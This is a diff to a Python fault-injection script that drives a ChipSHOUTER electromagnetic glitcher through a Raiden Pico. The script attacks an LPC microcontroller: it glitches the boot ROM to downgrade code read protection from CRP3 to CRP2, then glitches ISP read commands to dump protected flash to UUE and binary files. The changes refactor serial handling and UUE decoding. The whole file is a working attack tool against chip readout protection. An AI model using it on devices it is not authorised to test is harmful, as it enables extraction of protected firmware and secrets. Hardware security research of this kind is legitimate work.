@@ -6,61 +6,85 @@ Uses GPIO RESET trigger to glitch during boot and downgrades CRP3 to CRP2.
 Success is determined by bootloader SYNC working (bootloader becomes active in CRP2).
 """
 
+import binascii
 import serial
 import time
-import csv
+import os
 from datetime import datetime
 import sys
 
+import numpy as np
+
+# Optional: numba compiles the checksum of UUE lines binascii.a2b_uu rejects
+try:
+    from numba import njit
+except ImportError:
+    njit = None
+
+from chipshouter_io import (API_END_RE, line_reader, read_available, read_reply,
+                            send_batch, set_latency_timer, wait_readable)
+
 SERIAL_PORT = '/dev/ttyACM0'
 BAUD_RATE = 115200
 TIMEOUT = 2.0
 
+# Fixed command bytes, built once rather than formatted per attempt
+API_ON = b"API ON\r\n"
+API_OFF = b"API OFF\r\n"
+ARM_ON = b"ARM ON\r\n"
+SYNC_CMD = b"TARGET SYNC 115200 12000 10 1\r\n"
+CMD_OK = b'TARGET SEND "OK"\r\n'
+CS_STATUS = b"CS STATUS\r\n"
+CS_TRIGGER_HW_HIGH = b"CS TRIGGER HW HIGH\r\n"
+
+# Characters a UUE data line can start with (its length: ' ' = 0 up to 'M' = 45)
+UUE_FIRST_CHARS = frozenset(' !"#$%&\'()*+,-./0123456789:;<=>?@ABCDEFGHIJKLM')
+
+def read_api_reply(ser, timeout=3.0):
+    """Read one API-mode reply up to the prompt.
+
+    The CLI answers '.', the command's output, then '+' (success) or '!'
+    (failure) and the '> ' prompt.
+
+    Returns (success, output): success is None if no status arrived within
+    timeout, in which case output is everything read so far.
+    """
+    response, ends = read_reply(ser, API_END_RE, timeout)
+    if not ends:
+        return None, response
+    m = ends[0]
+
+    # Output starts after the '.' that follows the echoed command line
+    dot = response.find(b'\r\n.')
+    start = dot + 3 if 0 <= dot < m.start() else 0
+    return response[m.start():m.start() + 1] == b'+', response[start:m.start()]
+
 def send_command(ser, cmd, verbose_cs=False):
     """Send command in API mode and check response.
 
+    cmd is a command string, or an already encoded line such as ARM_ON.
     If verbose_cs=True and cmd starts with 'CS', print the full response.
     """
+    line = cmd if isinstance(cmd, bytes) else f"{cmd}\r\n".encode()
+
     # Clear any pending data
-    ser.read(ser.in_waiting)
+    ser.reset_input_buffer()
 
     # Send command
-    ser.write(f"{cmd}\r\n".encode())
+    ser.write(line)
 
-    # Wait for '.' (command received)
-    start = time.time()
-    while time.time() - start < 1.0:
-        if ser.in_waiting > 0:
-            char = ser.read(1).decode('utf-8', errors='ignore')
-            if char == '.':
-                break
+    # Any change to the ChipSHOUTER's armed state makes the cached status
+    # stale; so does arming the trigger, as the glitch it fires can fault or
+    # disarm the ChipSHOUTER with no host command
+    if line.upper().startswith((b'CS ARM', b'CS DISARM', b'CS RESET', b'ARM ON')):
+        _cs_armed_cache['value'] = None
 
-    # Wait for '+' (success) or '!' (failure) and collect response
-    response = ""
-    success = None
-    start = time.time()
-    while time.time() - start < 2.0:  # Longer timeout for CS commands
-        if ser.in_waiting > 0:
-            char = ser.read(1).decode('utf-8', errors='ignore')
-            response += char
-            if char == '+':
-                success = True
-                # Read any remaining response data
-                time.sleep(0.1)
-                if ser.in_waiting > 0:
-                    response += ser.read(ser.in_waiting).decode('utf-8', errors='ignore')
-                break
-            elif char == '!':
-                success = False
-                # Read any remaining response data
-                time.sleep(0.1)
-                if ser.in_waiting > 0:
-                    response += ser.read(ser.in_waiting).decode('utf-8', errors='ignore')
-                break
+    success, response = read_api_reply(ser)
 
     # Print CS responses for debugging
-    if verbose_cs and cmd.upper().startswith('CS'):
-        response_clean = response.strip().replace('\r', '').replace('\n', ' | ')
+    if verbose_cs and line.upper().startswith(b'CS'):
+        cmd = line.decode().strip()
+        response_clean = response.decode('utf-8', errors='ignore').strip().replace('\r', '').replace('\n', ' | ')
         if response_clean:
             print(f"    [CS RESPONSE] {cmd}: {response_clean}", flush=True)
         else:
@@ -71,109 +95,59 @@ def send_command(ser, cmd, verbose_cs=False):
 def send_command_get_data(ser, cmd, timeout=1.0):
     """Send command in API mode and return response data"""
     # Clear any pending data
-    ser.read(ser.in_waiting)
+    ser.reset_input_buffer()
 
     # Send command
     ser.write(f"{cmd}\r\n".encode())
 
-    # Wait for '.' (command received)
-    start = time.time()
-    while time.time() - start < timeout:
-        if ser.in_waiting > 0:
-            char = ser.read(1).decode('utf-8', errors='ignore')
-            if char == '.':
-                break
-        time.sleep(0.01)
-
-    # Wait for '+' (success) or '!' (failure)
-    start = time.time()
-    while time.time() - start < timeout:
-        if ser.in_waiting > 0:
-            char = ser.read(1).decode('utf-8', errors='ignore')
-            if char == '+':
-                # Success! Now read the actual data
-                time.sleep(0.1)  # Give it time to send data
-                if ser.in_waiting > 0:
-                    return ser.read(ser.in_waiting).decode('utf-8', errors='ignore')
-                return ""
-            elif char == '!':
-                return None
-        time.sleep(0.01)
-
-    return None
+    success, response = read_api_reply(ser, timeout * 2)
+    if not success:
+        return None
+    return response.decode('utf-8', errors='ignore')
 
 def check_cs_responsive(ser):
     """Check if ChipSHOUTER is responding to STATUS command"""
     # Clear any pending data
-    ser.read(ser.in_waiting)
+    ser.reset_input_buffer()
 
     # Send CS STATUS command
-    ser.write(b"CS STATUS\r\n")
+    ser.write(CS_STATUS)
 
-    # Wait for '.' (command received)
-    start = time.time()
-    while time.time() - start < 1.0:
-        if ser.in_waiting > 0:
-            char = ser.read(1).decode('utf-8', errors='ignore')
-            if char == '.':
-                break
+    success, _ = read_api_reply(ser, timeout=4.0)
+    return success is not None
 
-    # Wait for '+' or '!' and collect full response
-    response = ""
-    start = time.time()
-    got_response = False
-    while time.time() - start < 3.0:  # Longer timeout for status query
-        if ser.in_waiting > 0:
-            chunk = ser.read(ser.in_waiting).decode('utf-8', errors='ignore')
-            response += chunk
-            if '+' in response or '!' in response:
-                got_response = True
-                # Give it a bit more time to collect full response
-                time.sleep(0.1)
-                if ser.in_waiting > 0:
-                    response += ser.read(ser.in_waiting).decode('utf-8', errors='ignore')
-                break
+# Last CS STATUS armed result and when it was taken; check_cs_armed() reuses
+# it for max_age seconds, send_command() drops it on CS ARM/DISARM/RESET and
+# on ARM ON, since any glitch may leave the ChipSHOUTER faulted or disarmed
+_cs_armed_cache = {'value': None, 'ts': 0.0}
 
-    return got_response
+def check_cs_armed(ser, max_age=2.0, force=False):
+    """Check if ChipSHOUTER is armed by querying status.
+
+    A result less than max_age seconds old is returned without a CS STATUS
+    round trip unless force=True.
+    """
+    if not force and _cs_armed_cache['value'] is not None and time.time() - _cs_armed_cache['ts'] < max_age:
+        return _cs_armed_cache['value']
 
-def check_cs_armed(ser):
-    """Check if ChipSHOUTER is armed by querying status"""
     # Clear any pending data
-    ser.read(ser.in_waiting)
+    ser.reset_input_buffer()
 
     # Send CS STATUS command
-    ser.write(b"CS STATUS\r\n")
+    ser.write(CS_STATUS)
 
-    # Wait for '.' (command received)
-    start = time.time()
-    while time.time() - start < 1.0:
-        if ser.in_waiting > 0:
-            char = ser.read(1).decode('utf-8', errors='ignore')
-            if char == '.':
-                break
-
-    # Wait for '+' or '!' and collect full response
-    response = ""
-    start = time.time()
-    got_response = False
-    while time.time() - start < 3.0:  # Longer timeout for status query
-        if ser.in_waiting > 0:
-            chunk = ser.read(ser.in_waiting).decode('utf-8', errors='ignore')
-            response += chunk
-            if '+' in response or '!' in response:
-                got_response = True
-                # Give it a bit more time to collect full response
-                time.sleep(0.1)
-                if ser.in_waiting > 0:
-                    response += ser.read(ser.in_waiting).decode('utf-8', errors='ignore')
-                break
-
-    if not got_response:
+    success, response = read_api_reply(ser, timeout=4.0)
+    if success is None:
+        _cs_armed_cache['value'] = None
         return False
 
     # Check if "armed" appears in the status (ChipSHOUTER reports "armed" in status)
     # The response format includes "# armed:" or "state armed" when armed
-    return "armed" in response.lower() and "disarmed" not in response.lower()
+    response = response.lower()
+    armed = b"armed" in response and b"disarmed" not in response
+    _cs_armed_cache['value'] = armed
+    _cs_armed_cache['ts'] = time.time()
+    return armed
 
 def wait_for_cs_responsive(ser, timeout=5.0):
     """Poll CS STATUS until ChipSHOUTER responds or timeout"""
@@ -188,71 +162,143 @@ def wait_for_cs_responsive(ser, timeout=5.0):
     print(f"  (Timeout after {check_count} status checks)")
     return False
 
-def wait_for_cs_armed(ser, timeout=5.0, min_checks=5):
+def wait_for_cs_armed(ser, timeout=5.0, min_checks=5, min_armed_time=1.2):
     """Poll CS STATUS until ChipSHOUTER reports armed for multiple consecutive checks.
 
     The ChipSHOUTER reports 'armed' immediately but needs time to charge HV capacitor.
-    We poll multiple times to ensure it's fully ready.
+    We poll multiple times to ensure it's fully ready. Each CS STATUS query is
+    already a ChipSHOUTER round trip, so the gap between polls starts at 1ms
+    and backs off exponentially to 50ms instead of a fixed 300ms. The fast
+    polls only find the first armed report sooner: the consecutive armed
+    readings must also span min_armed_time seconds (the charge time five
+    polls 300ms apart used to give) before it counts as ready.
     """
     start = time.time()
     check_count = 0
     armed_count = 0
+    first_armed = None
+    delay = 0.001
     while time.time() - start < timeout:
         check_count += 1
-        if check_cs_armed(ser):
+        if check_cs_armed(ser, force=True):
             armed_count += 1
-            if armed_count >= min_checks:
+            if first_armed is None:
+                first_armed = time.time()
+            if armed_count >= min_checks and time.time() - first_armed >= min_armed_time:
                 print(f"  (Armed after {check_count} status checks)")
                 return True
         else:
             armed_count = 0  # Reset if not armed
-        time.sleep(0.3)  # Poll every 300ms
+            first_armed = None
+        time.sleep(delay)
+        delay = min(delay * 2, 0.05)
     print(f"  (Timeout after {check_count} status checks, armed_count={armed_count})")
     return False
 
 def wait_for_response(ser, expected_text, timeout=5.0):
     """Wait for specific text in serial response"""
+    expected = expected_text.encode()
     start_time = time.time()
-    full_response = ""
-    while time.time() - start_time < timeout:
-        if ser.in_waiting > 0:
-            chunk = ser.read(ser.in_waiting).decode('utf-8', errors='ignore')
-            full_response += chunk
-            if expected_text in full_response:
-                return True, full_response
-        time.sleep(0.01)
-    return False, full_response
+    full_response = bytearray()
+    while wait_readable(ser, start_time + timeout - time.time()):
+        full_response += read_available(ser)
+        if expected in full_response:
+            return True, full_response.decode('utf-8', errors='ignore')
+    return False, full_response.decode('utf-8', errors='ignore')
 
-def setup_gpio_trigger(ser, voltage, pause, width):
-    """Configure GPIO trigger and glitch parameters"""
-    # Set ChipSHOUTER voltage
-    send_command(ser, f"CS VOLTAGE {voltage}")
+def send_commands(ser, cmds, timeout=3.0):
+    """Send several commands in one write; return True if all of them succeeded.
 
-    # Set glitch timing parameters
-    send_command(ser, f"SET PAUSE {pause}")
-    send_command(ser, f"SET WIDTH {width}")
-    send_command(ser, f"SET COUNT 3")
+    timeout is the allowance per command.
+    """
+    _, ends = send_batch(ser, cmds, API_END_RE, timeout)
+    return len(ends) == len(cmds) and all(m.group().startswith(b'+') for m in ends)
 
-    # Configure GPIO trigger on GP3, rising edge (triggered by GP15 RESET)
-    send_command(ser, "TRIGGER GPIO RISING")
-    #send_command(ser, "TRIGGER GPIO FALLING")
+def setup_gpio_trigger(ser, voltage, pause, width):
+    """Configure GPIO trigger and glitch parameters"""
+    send_commands(ser, [
+        # Set ChipSHOUTER voltage
+        f"CS VOLTAGE {voltage}",
+        # Set glitch timing parameters
+        f"SET PAUSE {pause}",
+        f"SET WIDTH {width}",
+        "SET COUNT 3",
+        # Configure GPIO trigger on GP3, rising edge (triggered by GP15 RESET)
+        "TRIGGER GPIO RISING",
+        #"TRIGGER GPIO FALLING",
+    ])
 
 def setup_uart_trigger(ser, voltage, pause, width):
     """Configure UART trigger for ISP read glitching"""
-    # Set ChipSHOUTER voltage
-    send_command(ser, f"CS VOLTAGE {voltage}")
-
-    # Set glitch timing parameters for ISP read (45.67 µs = ~6850 cycles @ 150MHz)
-    send_command(ser, f"SET PAUSE {pause}")
-    send_command(ser, f"SET WIDTH {width}")
-    send_command(ser, f"SET COUNT 1")
-
-    # Configure UART trigger on '\r' character (0x0D) for ISP read commands
-    send_command(ser, "TRIGGER UART 0x0D")  # 0x0D = '\r' (carriage return)
+    send_commands(ser, [
+        # Set ChipSHOUTER voltage
+        f"CS VOLTAGE {voltage}",
+        # Set glitch timing parameters for ISP read (45.67 µs = ~6850 cycles @ 150MHz)
+        f"SET PAUSE {pause}",
+        f"SET WIDTH {width}",
+        "SET COUNT 1",
+        # Configure UART trigger on '\r' character (0x0D) for ISP read commands
+        "TRIGGER UART 0x0D",  # 0x0D = '\r' (carriage return)
+    ])
+
+if njit is not None:
+    @njit(cache=True)
+    def _uue_line_sum_kernel(codes):
+        """Sum of the bytes a UUE line (array of ASCII codes) decodes to"""
+        length = np.int64(codes[0]) - 32
+        total = 0
+        for i in range(0, length, 3):
+            j = 1 + (i // 3) * 4
+            if j + 4 > len(codes):
+                break
+            c0 = np.int64(codes[j]) - 32
+            c1 = np.int64(codes[j + 1]) - 32
+            c2 = np.int64(codes[j + 2]) - 32
+            c3 = np.int64(codes[j + 3]) - 32
+            total += (c0 << 2 | c1 >> 4) & 0xFF
+            if i + 1 < length:
+                total += ((c1 & 0xF) << 4 | c2 >> 2) & 0xFF
+            if i + 2 < length:
+                total += ((c2 & 0x3) << 6 | c3) & 0xFF
+        return total
+
+def uue_decode_np(lines):
+    """Decode UUE lines to bytes with NumPy, using only each line's declared length.
+
+    Unlike binascii.a2b_uu this tolerates trailing characters, so it serves
+    as the fallback for chunks a2b_uu rejects; an incomplete group of 4
+    characters at the end of a short line decodes to zeros. The whole chunk
+    is decoded in one vectorized pass.
+    """
+    lengths = np.array([ord(line[0]) - 32 for line in lines], dtype=np.int64).clip(0)
+    groups = (lengths + 2) // 3
+    payload = ''.join(line[1:1 + 4 * n].ljust(4 * n) for line, n in zip(lines, groups.tolist()))
+    codes = np.frombuffer(payload.encode('latin-1'), dtype=np.uint8).astype(np.int32) - 32
+    quads = codes.reshape(-1, 4)
+    out = np.empty((len(quads), 3), dtype=np.uint8)
+    out[:, 0] = (quads[:, 0] << 2 | quads[:, 1] >> 4) & 0xFF
+    out[:, 1] = ((quads[:, 1] & 0xF) << 4 | quads[:, 2] >> 2) & 0xFF
+    out[:, 2] = ((quads[:, 2] & 0x3) << 6 | quads[:, 3]) & 0xFF
+    complete = np.array([(len(line) - 1) // 4 for line in lines], dtype=np.int64)
+    group_index = np.arange(len(quads)) - np.repeat(np.cumsum(groups) - groups, groups)
+    out[group_index >= np.repeat(complete, groups)] = 0
+    # Each line decodes to groups*3 bytes; keep only its first `length`
+    starts = np.repeat(np.cumsum(groups * 3) - groups * 3, groups * 3)
+    keep = np.arange(len(starts)) - starts < np.repeat(lengths, groups * 3)
+    return out.reshape(-1)[keep].tobytes()
+
+def uue_line_sum(line):
+    """Sum of the bytes uue_decode_np() gives for a line.
+
+    Uses the numba kernel when numba is installed.
+    """
+    if njit is not None:
+        return int(_uue_line_sum_kernel(np.frombuffer(line.encode(), dtype=np.uint8)))
+    return sum(uue_decode_np([line]))
 
 def read_flash_memory(ser, address, num_bytes, output_file, use_glitch=False, isp_voltage=None, isp_pause=None, isp_width=None, debug=True):
     """
-    Read flash memory from target using LPC ISP R command and save as UUE file
+    Read flash memory from target using LPC ISP R command and save as UUE and .bin files
 
     Implements LPC ISP continuation protocol:
     - Send R command
@@ -280,18 +326,18 @@ def read_flash_memory(ser, address, num_bytes, output_file, use_glitch=False, is
         print(f"  Using UART-triggered glitch: V={isp_voltage} P={isp_pause} W={isp_width}", flush=True)
 
     # Disable API mode temporarily for faster flash reading
-    ser.write(b"API OFF\r\n")
+    ser.write(API_OFF)
     time.sleep(0.2)
-    ser.read(ser.in_waiting)
+    ser.reset_input_buffer()
 
     # If glitching, setup UART trigger before reads
     if use_glitch:
         # Re-enable API mode to configure trigger
         if debug:
             print("  [2.1] Re-enabling API mode...", flush=True)
-        ser.write(b"API ON\r\n")
+        ser.write(API_ON)
         time.sleep(0.2)
-        ser.read(ser.in_waiting)
+        ser.reset_input_buffer()
 
         # Setup UART trigger for ISP read glitch
         if debug:
@@ -301,7 +347,7 @@ def read_flash_memory(ser, address, num_bytes, output_file, use_glitch=False, is
         # Set trigger mode (CS stays armed from Stage 1, no need to re-arm CS)
         if debug:
             print("  [2.3] Setting CS trigger to HARDWARE HIGH...", flush=True)
-        send_command(ser, "CS TRIGGER HW HIGH")
+        send_command(ser, CS_TRIGGER_HW_HIGH)
 
         # Wait for CS to be armed and ready (may need to re-arm after firing)
         if debug:
@@ -320,16 +366,14 @@ def read_flash_memory(ser, address, num_bytes, output_file, use_glitch=False, is
         # Back to non-API mode for reading
         if debug:
             print("  [2.5] Disabling API mode for fast reads...", flush=True)
-        ser.write(b"API OFF\r\n")
+        ser.write(API_OFF)
         time.sleep(0.2)
-        ser.read(ser.in_waiting)
+        ser.reset_input_buffer()
 
     # Set TARGET TIMEOUT to 10ms for fast operation (500x speed improvement)
     ser.write(b"TARGET TIMEOUT 10\r\n")
-    time.sleep(0.1)
-    while ser.read(1) != b'>':  # Wait for prompt
-        pass
-    ser.read(ser.in_waiting)
+    wait_for_response(ser, "> ", timeout=2.0)  # Wait for prompt
+    ser.reset_input_buffer()
 
     # Send R command via Raiden Pico TARGET SEND
     # LPC ISP R command format: R <address> <num_bytes>
@@ -344,61 +388,51 @@ def read_flash_memory(ser, address, num_bytes, output_file, use_glitch=False, is
     # If glitching, ARM before sending command (UART trigger will fire on '\r' echo)
     if use_glitch:
         # Re-enable API mode briefly to ARM
-        ser.write(b"API ON\r\n")
+        ser.write(API_ON)
         time.sleep(0.1)
-        ser.read(ser.in_waiting)
+        ser.reset_input_buffer()
 
         if debug:
             print(f"  [2.7] Sending ARM ON for this read...", flush=True)
-        # Send ARM ON command
-        ser.write(b"ARM ON\r\n")
-        time.sleep(0.05)
-        # Wait for response
-        while ser.in_waiting > 0:
-            char = ser.read(1).decode('utf-8', errors='ignore')
-            if char == '+':
-                break
-        ser.read(ser.in_waiting)  # Clear
+        # Send ARM ON command and wait for its '+'/'!'; the glitch it arms
+        # can change the ChipSHOUTER's state, so drop the cached status
+        ser.write(ARM_ON)
+        _cs_armed_cache['value'] = None
+        read_api_reply(ser)
 
         # Back to non-API mode
-        ser.write(b"API OFF\r\n")
+        ser.write(API_OFF)
         time.sleep(0.1)
-        ser.read(ser.in_waiting)
+        ser.reset_input_buffer()
 
     # Send command in non-API mode
     ser.write(f'TARGET SEND "{cmd}"\r\n'.encode())
 
-    # Helper function to read lines
+    # Helper function to read lines, split out of bulk reads
+    next_line = line_reader(ser, TIMEOUT, skip_blank=True)
+
     def read_line():
-        """Read a single line from serial"""
-        while True:
-            line = ser.read_until(b'\r').decode('utf-8', errors='ignore').strip()
-            if line:  # Skip empty lines
-                return line
-            if not ser.in_waiting:  # No more data
-                return None
+        """Read a single non-empty line from serial"""
+        line = next_line()
+        return line.decode('utf-8', errors='ignore') if line else None
 
     # Helper function to calculate UUE checksum
-    def calculate_uue_checksum(lines):
-        """Calculate checksum for UUE lines (sum of all decoded bytes)"""
-        total = 0
-        for line in lines:
-            # Decode UUE line
-            length = ord(line[0]) - 32
-            for i in range(0, length, 3):
-                chunk = line[1 + (i // 3) * 4 : 1 + (i // 3) * 4 + 4]
-                if len(chunk) == 4:
-                    # Decode 4 UUE chars to 3 bytes
-                    b1 = (ord(chunk[0]) - 32) << 2 | (ord(chunk[1]) - 32) >> 4
-                    b2 = ((ord(chunk[1]) - 32) & 0xF) << 4 | (ord(chunk[2]) - 32) >> 2
-                    b3 = ((ord(chunk[2]) - 32) & 0x3) << 6 | (ord(chunk[3]) - 32)
-                    if i < length:
-                        total += b1
-                    if i + 1 < length:
-                        total += b2
-                    if i + 2 < length:
-                        total += b3
-        return total & 0xFFFFFFFF
+    def decode_uue_chunk(lines):
+        """Decode a chunk of UUE lines; return (data, checksum).
+
+        The checksum is the sum of all decoded bytes. data is None if a2b_uu
+        rejected a line, in which case the checksum comes from the tolerant
+        decoder.
+        """
+        # Decode in C with a2b_uu, then sum the whole chunk in one NumPy pass
+        # (about half the time of sum() over the ~900 decoded bytes, and far
+        # cheaper than summing each line's a2b_uu result separately)
+        try:
+            data = b''.join(binascii.a2b_uu(line) for line in lines)
+        except binascii.Error:
+            # a2b_uu is strict about line length; fall back to the tolerant decoder
+            return None, sum(uue_line_sum(line) for line in lines) & 0xFFFFFFFF
+        return data, int(np.frombuffer(data, dtype=np.uint8).sum(dtype=np.uint64)) & 0xFFFFFFFF
 
     # Calculate expected number of UUE lines
     expected_lines = (num_bytes + 44) // 45
@@ -414,7 +448,7 @@ def read_flash_memory(ser, address, num_bytes, output_file, use_glitch=False, is
     if not error_line or not error_line[0].isdigit():
         print(f"ERROR: Expected error code, got: {repr(error_line)}", flush=True)
         # Re-enable API mode before returning
-        ser.write(b"API ON\r\n")
+        ser.write(API_ON)
         time.sleep(0.2)
         return False
 
@@ -423,137 +457,147 @@ def read_flash_memory(ser, address, num_bytes, output_file, use_glitch=False, is
         print(f"ERROR: Command failed with error code {error_code}", flush=True)
         # Check CS status after glitch to see any errors
         if use_glitch:
-            ser.write(b"API ON\r\n")
+            ser.write(API_ON)
             time.sleep(0.2)
-            ser.read(ser.in_waiting)
+            ser.reset_input_buffer()
             print("  [POST-GLITCH] Checking CS status for errors...", flush=True)
             send_command(ser, "CS STATUS")
             send_command(ser, "CS FAULTS")
         # Re-enable API mode before returning
-        ser.write(b"API ON\r\n")
+        ser.write(API_ON)
         time.sleep(0.2)
         return False
 
     print(f"✓ Error code: {error_code}", flush=True)
 
-    # Step 2: Read UUE data following continuation protocol
-    uuencoded_lines = []
-    lines_remaining = expected_lines
-    first_chunk = True
-
-    while lines_remaining > 0:
-        chunk_size = min(20, lines_remaining)
-        chunk_lines = []
-
-        # If this is a continuation (not the first chunk), we need to read echo responses first
-        if not first_chunk:
-            # Read firmware echo
-            read_line()
-            # Read Pico prompt
-            read_line()
-            # Read target echo ("OK")
-            read_line()
-
-        first_chunk = False
-
-        # Read chunk_size UUE lines
-        for i in range(chunk_size):
-            line = read_line()
-            if not line:
-                print(f"ERROR: Timeout reading line {len(uuencoded_lines) + i + 1}/{expected_lines}", flush=True)
+    # Write the .uue file, and the decoded .bin next to it, as the chunks
+    # arrive, so only the current chunk is held in memory. Derive binary
+    # filename from UUE filename (replace .uue with .bin)
+    base_name = os.path.splitext(os.path.basename(output_file))[0]
+    bin_filename = f"{base_name}.bin"
+    bin_file = os.path.join(os.path.dirname(output_file), bin_filename)
+
+    lines_written = 0
+    complete = False
+    f = open(output_file, 'w')
+    bin_f = open(bin_file, 'wb')
+    try:
+        # UUE header: begin <mode> <filename>
+        f.write(f"begin 644 {bin_filename}\n")
+
+        # Step 2: Read UUE data following continuation protocol
+        lines_remaining = expected_lines
+        first_chunk = True
+
+        while lines_remaining > 0:
+            chunk_size = min(20, lines_remaining)
+            chunk_lines = []
+
+            # If this is a continuation (not the first chunk), we need to read echo responses first
+            if not first_chunk:
+                # Read firmware echo
+                read_line()
+                # Read Pico prompt
+                read_line()
+                # Read target echo ("OK")
+                read_line()
+
+            first_chunk = False
+
+            # Read chunk_size UUE lines
+            for i in range(chunk_size):
+                line = read_line()
+                if not line:
+                    print(f"ERROR: Timeout reading line {lines_written + i + 1}/{expected_lines}", flush=True)
+                    # Re-enable API mode before returning
+                    ser.write(API_ON)
+                    time.sleep(0.2)
+                    return False
+
+                # Verify it's a UUE line
+                if line[0] not in UUE_FIRST_CHARS:
+                    print(f"ERROR: Invalid UUE line at {lines_written + i + 1}: {repr(line)}", flush=True)
+                    # Re-enable API mode before returning
+                    ser.write(API_ON)
+                    time.sleep(0.2)
+                    return False
+
+                chunk_lines.append(line)
+
+            # Read checksum
+            checksum_line = read_line()
+
+            if not checksum_line or not checksum_line.isdigit():
+                print(f"ERROR: Expected checksum after line {lines_written + chunk_size}, got: {repr(checksum_line)}", flush=True)
                 # Re-enable API mode before returning
-                ser.write(b"API ON\r\n")
+                ser.write(API_ON)
                 time.sleep(0.2)
                 return False
 
-            # Verify it's a UUE line
-            if line[0] not in ' !"#$%&\'()*+,-./0123456789:;<=>?@ABCDEFGHIJKLM':
-                print(f"ERROR: Invalid UUE line at {len(uuencoded_lines) + i + 1}: {repr(line)}", flush=True)
+            received_checksum = int(checksum_line)
+
+            # If more lines to read, send OK to continue now, so the target
+            # streams the next chunk while this one is checked and written; a
+            # bad checksum aborts the read either way
+            # NOTE: Continuation commands don't need glitching - CRP check only happens
+            # once at the start of the R command. Toggling API mode mid-read breaks the
+            # ISP session, so we skip ARM ON for continuations.
+            if lines_remaining > chunk_size:
+                ser.write(CMD_OK)
+
+            # Calculate expected checksum for this chunk
+            # Replace backticks with spaces before calculating (LPC uses backticks for spaces)
+            chunk_lines_fixed = [line.replace('`', ' ') for line in chunk_lines]
+            data, calculated_checksum = decode_uue_chunk(chunk_lines_fixed)
+
+            # Verify checksum
+            if received_checksum != calculated_checksum:
+                print(f"ERROR: Checksum mismatch at line {lines_written}!", flush=True)
+                print(f"  Expected: {calculated_checksum}", flush=True)
+                print(f"  Received: {received_checksum}", flush=True)
                 # Re-enable API mode before returning
-                ser.write(b"API ON\r\n")
+                ser.write(API_ON)
                 time.sleep(0.2)
                 return False
 
-            chunk_lines.append(line)
-
-        # Read checksum
-        checksum_line = read_line()
-
-        if not checksum_line or not checksum_line.isdigit():
-            print(f"ERROR: Expected checksum after line {len(uuencoded_lines) + chunk_size}, got: {repr(checksum_line)}", flush=True)
-            # Re-enable API mode before returning
-            ser.write(b"API ON\r\n")
-            time.sleep(0.2)
-            return False
-
-        received_checksum = int(checksum_line)
-
-        # Calculate expected checksum for this chunk
-        # Replace backticks with spaces before calculating (LPC uses backticks for spaces)
-        chunk_lines_fixed = [line.replace('`', ' ') for line in chunk_lines]
-        calculated_checksum = calculate_uue_checksum(chunk_lines_fixed)
-
-        # Verify checksum
-        if received_checksum != calculated_checksum:
-            print(f"ERROR: Checksum mismatch at line {len(uuencoded_lines)}!", flush=True)
-            print(f"  Expected: {calculated_checksum}", flush=True)
-            print(f"  Received: {received_checksum}", flush=True)
-            # Re-enable API mode before returning
-            ser.write(b"API ON\r\n")
-            time.sleep(0.2)
-            return False
-
-        # Consume the \n after checksum if present
-        if ser.in_waiting > 0:
-            ser.read(1)
+            # Stream the verified chunk straight to both files
+            f.write('\n'.join(chunk_lines_fixed) + '\n')
+            if data is None:
+                data = uue_decode_np(chunk_lines_fixed)
+            bin_f.write(data)
+            lines_written += chunk_size
+            lines_remaining -= chunk_size
 
-        uuencoded_lines.extend(chunk_lines)
-        lines_remaining -= chunk_size
+            # Progress update every 100 lines
+            if lines_written % 100 == 0 or lines_remaining == 0:
+                print(f"  Progress: {lines_written}/{expected_lines} lines ({lines_written * 45} bytes)", flush=True)
 
-        # Progress update every 100 lines
-        if len(uuencoded_lines) % 100 == 0 or lines_remaining == 0:
-            print(f"  Progress: {len(uuencoded_lines)}/{expected_lines} lines ({len(uuencoded_lines) * 45} bytes)", flush=True)
+        # Read end marker (backtick character - LPC uses backtick for space)
+        # In non-API mode, we may get '>' prompt directly instead
+        end_marker = read_line()
+        if end_marker not in ('`', '>'):
+            print(f"WARNING: Unexpected end marker: {repr(end_marker)}", flush=True)
 
-        # If more lines to read, send OK to continue
-        # NOTE: Continuation commands don't need glitching - CRP check only happens
-        # once at the start of the R command. Toggling API mode mid-read breaks the
-        # ISP session, so we skip ARM ON for continuations.
-        if lines_remaining > 0:
-            ser.write(b'TARGET SEND "OK"\r\n')
-
-    # Read end marker (backtick character - LPC uses backtick for space)
-    # In non-API mode, we may get '>' prompt directly instead
-    end_marker = read_line()
-    if end_marker not in ('`', '>'):
-        print(f"WARNING: Unexpected end marker: {repr(end_marker)}", flush=True)
+        # UUE footer: empty line (space, not backtick) and "end"
+        f.write(" \n")
+        f.write("end\n")
+        complete = True
+    finally:
+        f.close()
+        bin_f.close()
+        # Don't leave a truncated dump behind if the read failed part way
+        if not complete:
+            os.remove(output_file)
+            os.remove(bin_file)
 
-    print(f"\n✓ Successfully read {len(uuencoded_lines)} UUE lines", flush=True)
+    print(f"\n✓ Successfully read {lines_written} UUE lines", flush=True)
 
     # Re-enable API mode
-    ser.write(b"API ON\r\n")
+    ser.write(API_ON)
     time.sleep(0.2)
-    ser.read(ser.in_waiting)
-
-    # Write to .uue file with proper structure
-    # Derive binary filename from UUE filename (replace .uue with .bin)
-    import os
-    base_name = os.path.splitext(os.path.basename(output_file))[0]
-    bin_filename = f"{base_name}.bin"
-
-    with open(output_file, 'w') as f:
-        # UUE header: begin <mode> <filename>
-        f.write(f"begin 644 {bin_filename}\n")
-
-        # Write UUencoded lines (replace backticks with spaces - LPC ISP uses backticks for spaces)
-        for line in uuencoded_lines:
-            fixed_line = line.replace('`', ' ')
-            f.write(fixed_line + '\n')
-
-        # UUE footer: empty line (space, not backtick) and "end"
-        f.write(" \n")
-        f.write("end\n")
+    ser.reset_input_buffer()
 
-    print(f"✓ Flash memory saved to: {output_file}", flush=True)
+    print(f"✓ Flash memory saved to: {output_file} and {bin_file}", flush=True)
     return True
 
 def test_crp3_to_crp2_glitch(ser, boot_voltage, boot_pause, boot_width, isp_voltage, isp_pause, isp_width, debug=True, skip_stage1=False):
@@ -579,7 +623,7 @@ def test_crp3_to_crp2_glitch(ser, boot_voltage, boot_pause, boot_width, isp_volt
         # Just sync with target (no reset, no glitch)
         if debug:
             print("  [1.1] Sending TARGET SYNC (no glitch)...", flush=True)
-        ser.write(b"TARGET SYNC 115200 12000 10 1\r\n")
+        ser.write(SYNC_CMD)
         success, response = wait_for_response(ser, "LPC ISP sync complete", timeout=5.0)
     else:
         # === STAGE 1: Boot ROM Glitch (GPIO trigger @ 4 µs) ===
@@ -594,12 +638,12 @@ def test_crp3_to_crp2_glitch(ser, boot_voltage, boot_pause, boot_width, isp_volt
 
         if debug:
             print("  [1.2] Setting CS trigger to HARDWARE HIGH...", flush=True)
